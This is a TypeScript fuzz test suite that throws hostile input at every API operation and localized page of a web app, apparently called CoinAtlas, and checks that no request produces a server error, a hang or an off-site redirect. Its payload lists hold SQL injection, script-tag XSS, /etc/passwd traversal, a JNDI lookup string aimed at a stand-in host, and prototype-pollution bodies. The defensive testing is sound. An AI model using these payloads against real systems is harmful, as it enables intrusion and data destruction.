/**
 * Hostile input, generated from the API document and the route manifest, sent anonymously and as a signed-in
 * admin (so admin routes validate their input instead of stopping at 401):
 *
 * - every operation: each path and query parameter gets control characters, very long text, injection and
 *   traversal payloads, numbers no column holds ('1e309', 'Infinity', '-1e309', 'NaN', '1.5', beyond the
 *   Postgres integer range), zero, negatives, the empty string and repeated parameters (an array where one
 *   value is expected); each JSON body gets wrong types per field, integers out of range, and bodies that are
 *   not JSON, not an object, too large or carry `__proto__`;
 * - every page of the manifest in the four languages: its own path, other letter case, escaped letters, a
 *   trailing slash, leading slashes and backslashes, hostile query strings and hostile ids.
 *
 * Whatever comes, the answer comes (a bounded wait per request), is never a 5xx, input that is wrong by
 * construction gets a 4xx, every 4xx JSON answer carries a message, and no redirect leaves the site.
 * The pages are rendered by the built client (frontend/dist-ssr, which `make test` builds first).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { ROUTE_MANIFEST } from '@coinatlas/domain/routes/manifest';
import { isLanguageNeutral, localizePath, SITE_LANGUAGES } from '@coinatlas/domain/routes/localized';
import { startFakeProvider, type FakeProvider } from '../support/fake-coingecko.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

const ORIGIN = 'http://localhost:3000';
const EMAIL = 'hostile@coinatlas.example';
const PASSWORD = 'correct horse battery staple';
// A bound on "answered at all" (a busy 2-core machine renders slowly); how fast is never asserted.
const HANG_BOUND_MS = 30_000;
// Requests in flight at once: in process, this hides the database's round trips without flooding the machine.
const CONCURRENCY = 6;
// A guard for a whole pass (thousands of requests); hangs are caught per request above.
const PASS_TIMEOUT_MS = 600_000;

type Schema = {
  type?: string | string[];
  properties?: Record<string, Schema>;
  examples?: unknown[];
  $ref?: string;
  required?: string[];
  minimum?: number;
  maximum?: number;
};
type Operation = {
  operationId?: string;
  parameters?: Array<{ name: string; in: 'path' | 'query' | 'header'; schema?: Schema }>;
  requestBody?: { content?: Record<string, { schema?: Schema }> };
};
type Case = { what: string; method: string; url: string; payload?: unknown; raw?: string; mustBe4xx: boolean };

const STRING_ATTACKS: Array<[string, string, boolean]> = [
  ['NUL', 'a\u0000b', true],
  ['escape', 'a\u001b[31mred', true],
  ['DEL', 'a\u007fb', true],
  ['very long', 'x'.repeat(5000), false],
  ['SQL injection', "' OR 1=1; DROP TABLE referral_codes; --", false],
  ['HTML', '<script>alert(1)</script>', false],
  ['path traversal', '../../../../etc/passwd', false],
  ['template', '${jndi:ldap://x.example/a}{{7*7}}', false],
  ['right-to-left override', 'abc\u202edcba', false],
  ['lone surrogate', 'a\ud800b', false],
  ['percent NUL', '%00', false],
  ['unicode', 'Zürich 東京 🚀', false],
  ['dot segment', '..', false],
];
/** Numbers and near-numbers; `true`: an integer parameter must refuse it with a 4xx. */
const NUMBER_ATTACKS: Array<[string, string, boolean]> = [
  ['1e309', '1e309', true],
  ['Infinity', 'Infinity', true],
  ['-Infinity', '-Infinity', true],
  ['-1e309', '-1e309', true],
  ['NaN', 'NaN', true],
  ['fraction', '1.5', true],
  ['beyond int4', '2147483648', true],
  ['beyond int8', '99999999999999999999', true],
  ['negative', '-1', false],
  ['zero', '0', false],
  ['empty', '', false],
  ['hex', '0x10', false],
  ['space', ' 7 ', false],
];
const WRONG_TYPES: Array<[string, unknown]> = [
  ['number', 12345],
  ['boolean', true],
  ['array', ['x@example.com']],
  ['object', { nested: 'x' }],
  ['null', null],
];
/** JSON bodies that are not the object a route expects. */
const WRONG_BODIES: Array<[string, string]> = [
  ['array body', '[]'],
  ['number body', '42'],
  ['string body', '"x"'],
  ['null body', 'null'],
  ['true body', 'true'],
  ['deeply nested', '{"a":'.repeat(2000) + '1' + '}'.repeat(2000)],
];
// Operations whose effect would end this suite's own session.
const SKIP = new Set(['adminLogout']);

const isInteger = (s: Schema | undefined) => s?.type === 'integer';

describe('hostile input: every operation and every page, anonymous and signed in', () => {
  let t: TestApp;
  let prices: FakeProvider;
  let adminHeaders: Record<string, string> = {};
  let seq = 0;
  let sent = 0;
  const apiCases: Case[] = [];
  const pageUrls: string[] = [];
  const ownPages: string[] = [];

  beforeAll(async () => {
    // the price lists come from a stand-in provider: no answer here is a 503 for want of the internet
    prices = await startFakeProvider();
    t = await createTestApp({
      env: {
        ...prices.env,
        ADMIN_EMAIL: EMAIL,
        ADMIN_PASSWORD: PASSWORD,
        RATE_LIMIT_MAX: '1000000',
        CONTACT_RATE_LIMIT_MAX: '1000000',
        NEWSLETTER_RATE_LIMIT_MAX: '1000000',
        ADMIN_LOGIN_MAX_PER_IP: '1000000',
        ADMIN_LOGIN_MAX_PER_ACCOUNT: '1000000',
      },
    });
    const login = await t.app.inject({
      method: 'POST',
      url: '/api/admin/login',
      headers: { origin: ORIGIN },
      payload: { email: EMAIL, password: PASSWORD },
    });
    expect(login.statusCode).toBe(200);
    const cookie = ([] as string[])
      .concat(login.headers['set-cookie'] ?? [])
      .map((c) => c.split(';')[0])
      .join('; ');
    adminHeaders = { cookie, 'x-csrf-token': login.json().csrfToken, origin: ORIGIN };

    buildApiCases();
    await buildPageUrls();
  });
  afterAll(async () => {
    await t?.close();
    await prices?.close();
  });

  function buildApiCases() {
    const doc = t.app.swagger() as { paths: Record<string, Record<string, Operation>>; components?: { schemas?: Record<string, Schema> } };
    const resolve = (s: Schema | undefined): Schema | undefined => (s?.$ref ? doc.components?.schemas?.[s.$ref.split('/').pop()!] : s);
    for (const [path, ops] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(ops)) {
        if (SKIP.has(op.operationId ?? '')) continue;
        const M = method.toUpperCase();
        // headers (the CSRF token) are the session's own, not input to vary here
        const params = (op.parameters ?? []).filter((p) => p.in === 'path' || p.in === 'query');
        const fill = (name: string, value: string) =>
          path.replace(/\{(\w+)\}/g, (_m, p: string) => (p === name ? enc(value) : sample(params.find((x) => x.name === p))));
        const base = fill('', '');
        for (const p of params) {
          const integer = isInteger(resolve(p.schema));
          const attacks = [...STRING_ATTACKS, ...NUMBER_ATTACKS.map(([w, v, bad]) => [w, v, bad && integer] as [string, string, boolean])];
          for (const [what, value, bad] of attacks) {
            const url = p.in === 'path' ? fill(p.name, value) : `${base}?${p.name}=${enc(value)}`;
            apiCases.push({ what: `${p.in} ${p.name}: ${what}`, method: M, url, mustBe4xx: bad });
          }
          if (p.in === 'query') {
            apiCases.push({ what: `query ${p.name}: repeated`, method: M, url: `${base}?${p.name}=1&${p.name}=2`, mustBe4xx: false });
            apiCases.push({
              what: `query ${p.name}: bracket array`,
              method: M,
              url: `${base}?${p.name}[]=1&${p.name}[0]=x`,
              mustBe4xx: false,
            });
          }
        }
        apiCases.push({
          what: 'unknown query parameter with a hostile value',
          method: M,
          url: `${base}?zz=${enc('1e309')}&__proto__[x]=1`,
          mustBe4xx: false,
        });
        const content = op.requestBody?.content ?? {};
        const json = content['application/json'];
        if (!op.requestBody) continue;
        for (const [what, raw] of WRONG_BODIES) apiCases.push({ what, method: M, url: base, raw, mustBe4xx: json !== undefined });
        const body = resolve(json?.schema);
        if (!body?.properties) continue;
        const example = (body.examples?.[0] as Record<string, unknown> | undefined) ?? exampleOf(body);
        for (const [field, fs] of Object.entries(body.properties)) {
          const schema = resolve(fs);
          if (schema?.type === 'string') {
            for (const [what, value, bad] of STRING_ATTACKS) {
              apiCases.push({
                what: `body ${field}: ${what}`,
                method: M,
                url: base,
                payload: { ...example, [field]: value },
                mustBe4xx: bad,
              });
            }
          }
          for (const [what, value] of WRONG_TYPES) {
            const matches = (schema?.type === 'boolean' && typeof value === 'boolean') || (isInteger(schema) && typeof value === 'number');
            if (matches) continue;
            apiCases.push({
              what: `body ${field}: ${what}`,
              method: M,
              url: base,
              payload: { ...example, [field]: value },
              mustBe4xx: true,
            });
          }
          if (isInteger(schema)) {
            const others = JSON.stringify({ ...example, [field]: 0 }).replace(`"${field}":0`, `"${field}":%N%`);
            for (const n of ['1e309', '-1e309', '1e20', '2147483648', '1.5']) {
              apiCases.push({ what: `body ${field}: ${n}`, method: M, url: base, raw: others.replace('%N%', n), mustBe4xx: true });
            }
          }
        }
        apiCases.push({
          what: 'body __proto__',
          method: M,
          url: base,
          raw: `{"__proto__":{"isAdmin":true},${JSON.stringify(example).slice(1)}`,
          mustBe4xx: true,
        });
        apiCases.push({ what: 'body that is not JSON', method: M, url: base, raw: '{"unterminated": ', mustBe4xx: true });
        apiCases.push({
          what: 'body too large',
          method: M,
          url: base,
          raw: JSON.stringify({ ...example, pad: 'p'.repeat(20_000) }),
          mustBe4xx: true,
        });
      }
    }
  }

  async function buildPageUrls() {
    const urls = new Set<string>();
    for (const entry of ROUTE_MANIFEST) {
      let path = entry.path;
      const hostileIds: string[] = [];
      if (path.includes(':id')) {
        const resolver = entry.resolve ? t.app.routeResolvers.get(entry.resolve) : undefined;
        const first = resolver ? (await resolver.list())[0]?.id : undefined;
        path = path.replace(':id', encodeURIComponent(first ?? 'unknown-id'));
        for (const id of [
          '..',
          '%2E%2E%2F%2E%2E',
          'x'.repeat(300),
          'a%00b',
          'Z%C3%BCrich',
          '1e309',
          '%F0%9F%9A%80',
          '-vs-',
          'a-vs-a-vs-a-vs-a-vs-a',
        ]) {
          hostileIds.push(entry.path.replace(':id', id));
        }
      }
      const langs = isLanguageNeutral(entry) ? (['en'] as const) : SITE_LANGUAGES;
      for (const lang of langs) {
        const own = localizePath(lang, path);
        ownPages.push(own);
        const upper = own.toUpperCase();
        const capital = own.replace(/[a-z]/, (c) => c.toUpperCase());
        const escaped = own.replace(/[a-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`);
        // the same with the language prefix as it is ('/es/PRIVACY', '/es/Privacy', '/es/%70rivacy')
        const inLanguage = (f: (p: string) => string) => localizePath(lang, f(path));
        for (const u of [
          own,
          upper,
          capital,
          escaped,
          inLanguage((p) => p.toUpperCase()),
          inLanguage((p) => p.replace(/[a-z]/, (c) => c.toUpperCase())),
          inLanguage((p) => p.replace(/[a-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`)),
          `${own}/`,
          `${capital}/`,
          `//${own.slice(1)}/`,
          `${own}?page=1e309&limit=Infinity&id=-1&q=%00`,
          `${own}?__proto__[polluted]=1&lang=xx&lang=yy`,
          `${own}%00`,
          `${own}/..%2F..%2Fetc%2Fpasswd`,
        ]) {
          urls.add(u);
        }
        for (const h of hostileIds) urls.add(localizePath(lang, h));
      }
    }
    pageUrls.push(...urls);
  }

  /**
   * One request, asked again once if it answered 503: on a machine loaded far beyond its cores a store can
   * miss its own timeout (a 503, as it should be), which says nothing about the input. An answer the input
   * causes comes again; a 5xx that does is a failure.
   */
  async function send(opts: InjectOptions): Promise<LightMyRequestResponse | undefined> {
    const first = await sendOnce(opts);
    if (first?.statusCode !== 503) return first;
    await new Promise((r) => setTimeout(r, 250));
    return sendOnce(opts);
  }

  /** One request with a bound on waiting for it; `undefined` when no answer came. */
  async function sendOnce(opts: InjectOptions): Promise<LightMyRequestResponse | undefined> {
    sent++;
    let timer: NodeJS.Timeout | undefined;
    const hang = new Promise<undefined>((resolve) => {
      timer = setTimeout(() => resolve(undefined), HANG_BOUND_MS);
    });
    try {
      // a fresh address per request: the page render limit counts per client, and this is many clients
      return await Promise.race([
        t.app.inject({ remoteAddress: `10.${9 + (seq >> 16)}.${(seq >> 8) & 255}.${seq++ & 255}`, ...opts }),
        hang,
      ]);
    } finally {
      clearTimeout(timer);
    }
  }

  /** Runs `fn` over every item, a few at a time, in order of start. */
  async function each<T>(items: readonly T[], fn: (item: T) => Promise<void>): Promise<void> {
    let next = 0;
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async () => {
        while (next < items.length) await fn(items[next++]!);
      }),
    );
  }

  /** What is wrong with an answer, or undefined. */
  function problem(label: string, res: LightMyRequestResponse | undefined, mustBe4xx: boolean): string | undefined {
    if (!res) return `${label} -> no answer within ${HANG_BOUND_MS} ms`;
    const status = res.statusCode;
    const what = `${label} -> ${status} ${res.body.slice(0, 120)}`;
    if (status >= 500) return what;
    if (mustBe4xx && !(status >= 400 && status < 500)) return what;
    if (status >= 300 && status < 400) {
      const location = String(res.headers.location ?? '');
      if (new URL(location, 'http://site.test/x/y').origin !== 'http://site.test') return `${what} (Location ${location} leaves the site)`;
    }
    if (status >= 400 && String(res.headers['content-type'] ?? '').includes('json')) {
      const message = (res.json() as { message?: unknown }).message;
      if (typeof message !== 'string' || message.length === 0) return `${what} (no message)`;
    }
    return undefined;
  }

  it('generates cases for every operation and every page', () => {
    console.info(`hostile input: ${apiCases.length} API cases, ${pageUrls.length} page URLs (${ownPages.length} pages)`);
    expect(apiCases.length).toBeGreaterThan(1500);
    expect(pageUrls.length).toBeGreaterThan(1500);
  });

  for (const who of ['anonymous', 'admin'] as const) {
    it(
      `API, ${who}: never a 5xx or a hang; wrong-by-construction input gets a 4xx with a message`,
      async () => {
        const failures: string[] = [];
        const refusedSession: string[] = [];
        await each(apiCases, async (c) => {
          const headers: Record<string, string> = {
            ...(who === 'admin' ? adminHeaders : { origin: ORIGIN }),
            ...(c.raw !== undefined ? { 'content-type': 'application/json' } : {}),
          };
          const res = await send({
            method: c.method as 'GET',
            url: c.url,
            headers,
            ...(c.raw !== undefined ? { payload: c.raw } : c.payload !== undefined ? { payload: c.payload as object } : {}),
          });
          const failure = problem(`${c.method} ${c.url.slice(0, 80)} [${c.what}]`, res, c.mustBe4xx);
          if (failure) failures.push(failure);
          if (who === 'admin' && res?.statusCode === 401 && !c.url.startsWith('/api/admin/login'))
            refusedSession.push(`${c.method} ${c.url.slice(0, 80)}`);
        });
        expect(failures).toEqual([]);
        // signed in, the admin routes looked at the input (a 401 would mean the session was lost on the way)
        expect(refusedSession).toEqual([]);
      },
      PASS_TIMEOUT_MS,
    );

    // Renders are anonymous whoever asks (a session never changes a page): signed in, the pages themselves.
    const urls = () => (who === 'anonymous' ? pageUrls : ownPages);
    it(
      `pages in four languages, ${who}: never a 5xx or a hang, no redirect off the site`,
      async () => {
        const failures: string[] = [];
        await each(urls(), async (url) => {
          const res = await send({ method: 'GET', url, headers: who === 'admin' ? { cookie: adminHeaders.cookie! } : {} });
          const failure = problem(`GET ${url.slice(0, 100)}`, res, false);
          if (failure) failures.push(failure);
        });
        expect(failures).toEqual([]);
      },
      PASS_TIMEOUT_MS,
    );
  }

  it('sent at least 2,000 requests', () => {
    expect(sent).toBeGreaterThanOrEqual(2000);
  });
});

/** Percent-encodes; text no URL can carry (a lone surrogate) becomes an invalid UTF-8 sequence instead. */
function enc(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
}

function sample(p: { schema?: Schema } | undefined): string {
  const ex = p?.schema?.examples?.[0];
  return ex === undefined ? '1' : encodeURIComponent(String(ex));
}

function exampleOf(s: Schema): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(s.properties ?? {})) {
    if (!s.required?.includes(k)) continue;
    out[k] = v.examples?.[0] ?? (v.type === 'string' ? 'x' : v.type === 'boolean' ? true : v.type === 'integer' ? 1 : null);
  }
  return out;
}
